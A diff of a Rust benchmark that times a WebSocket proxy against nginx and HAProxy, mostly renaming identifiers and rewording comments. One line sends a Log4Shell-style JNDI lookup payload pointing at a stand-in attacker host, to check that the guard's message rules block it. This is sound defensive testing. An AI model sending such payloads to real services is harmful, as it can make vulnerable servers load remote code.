@@ -1,37 +1,37 @@
-//! What a message costs on its way through: guard beside nginx and HAProxy.
+//! The processor time of a proxied WebSocket message: guard beside nginx and HAProxy.
 //!
 //! `cargo build --release -p guard && cargo bench -p gabion-benches --bench messages [-- SECONDS]`, or
 //! `benches/messages/run`.
 //!
-//! A message of 64 bytes goes up and comes back, one at a time on each socket. Each proxy has one worker
-//! on one core; the load (this process) and the echo share another. What counts is the processor time
-//! of the proxy for each round trip, user and system (`/proc/PID/schedstat`); without a proxy it is
-//! that of the echo. The median of several rounds, in each of which everyone has a turn.
+//! Each socket sends a message of 64 bytes and waits for its echo before the next. Each proxy has one
+//! worker on one core; the load (this process) and the echo server share another. The measure is the
+//! processor time of the proxy for each round trip, user and system (`/proc/PID/schedstat`); without a
+//! proxy, that of the echo server. Results are medians of several rounds, in each of which every proxy
+//! runs once.
 
 #![allow(
     clippy::disallowed_methods,
     clippy::expect_used,
     clippy::panic,
     clippy::unwrap_used,
-    reason = "a bench asks its machine, and may stop"
+    reason = "a bench reads the system's state and may panic"
 )]
 
 mod echo;
 mod load;
-mod stand;
+mod testbed;
 
 use std::{env, iter, process::ExitCode, time::Duration};
 
 use gabion_benches::process::{OTHER_CORE, Running, stay_on};
 use load::Run;
-use stand::{House, Stand};
+use testbed::{Proxy, Testbed};
 
-/// How long one proxy is talked through with so many sockets in one round.
+/// The default duration of one run, and the number of rounds.
 const SECONDS: u64 = 3;
-
 const ROUNDS: usize = 5;
 
-/// How many sockets are open.
+/// The numbers of open sockets.
 const SOCKETS: [usize; 2] = [1, 100];
 
 fn main() -> ExitCode {
@@ -47,43 +47,43 @@ fn main() -> ExitCode {
     let seconds = Duration::from_secs(seconds.unwrap_or(if is_test { 1 } else { SECONDS }));
     let rounds = if is_test { 1 } else { ROUNDS };
     stay_on(OTHER_CORE);
-    let house = House::build();
-    let proxies = Stand::PROXIES.map(|stand| (stand, house.start(stand)));
+    let testbed = Testbed::start();
+    let proxies = Proxy::PROXIES.map(|proxy| (proxy, testbed.start_proxy(proxy)));
     let proxies = proxies
         .iter()
-        .filter_map(|(stand, running)| Some((*stand, running.as_ref()?)));
-    let stands: Vec<_> = iter::once((Stand::Direct, &house.echo))
+        .filter_map(|(proxy, running)| Some((*proxy, running.as_ref()?)));
+    let proxies: Vec<_> = iter::once((Proxy::Direct, &testbed.echo))
         .chain(proxies)
         .collect();
 
-    for (stand, running) in &stands {
+    for (proxy, running) in &proxies {
         let passes = load::is_echoed(running, b"${jndi:ldap://evil.example}");
-        assert_eq!(passes, *stand != Stand::GuardJudges, "{stand}");
+        assert_eq!(passes, *proxy != Proxy::GuardWithMessageRules, "{proxy}");
     }
-    let mut seen = vec![[const { Vec::new() }; SOCKETS.len()]; stands.len()];
+    let mut runs = vec![[const { Vec::new() }; SOCKETS.len()]; proxies.len()];
     for _ in 0..rounds {
         for (nth, sockets) in SOCKETS.into_iter().enumerate() {
-            for ((_, running), seen) in stands.iter().zip(&mut seen) {
-                seen[nth].push(load::put_on(running, sockets, seconds));
+            for ((_, running), runs) in proxies.iter().zip(&mut runs) {
+                runs[nth].push(load::measure(running, sockets, seconds));
             }
         }
     }
-    print(&stands, seen);
+    print(&proxies, runs);
     ExitCode::SUCCESS
 }
 
-fn print(stands: &[(Stand, &Running)], seen: Vec<[Vec<Run>; SOCKETS.len()]>) {
+fn print(proxies: &[(Proxy, &Running)], runs: Vec<[Vec<Run>; SOCKETS.len()]>) {
     println!("processor time for each round trip, in microseconds (round trips a second)");
     print!("{:<28}", "sockets");
     for sockets in SOCKETS {
         print!("{sockets:>20}{:>8}", "ratio");
     }
     println!();
-    let peer = stands.iter().position(|(stand, _)| *stand == Stand::Nginx);
-    let peer = peer.map(|nth| seen[nth].clone());
-    for ((stand, _), seen) in stands.iter().zip(seen) {
-        print!("{stand:<28}");
-        for (nth, runs) in seen.into_iter().enumerate() {
+    let peer = proxies.iter().position(|(proxy, _)| *proxy == Proxy::Nginx);
+    let peer = peer.map(|nth| runs[nth].clone());
+    for ((proxy, _), runs) in proxies.iter().zip(runs) {
+        print!("{proxy:<28}");
+        for (nth, runs) in runs.into_iter().enumerate() {
             let ratio = peer.as_ref().map(|peer| load::ratio(&runs, &peer[nth]));
             let Run { micros, per_second } = load::median(runs);
             print!("{:>20}", format!("{micros:.1} ({per_second:.0})"));
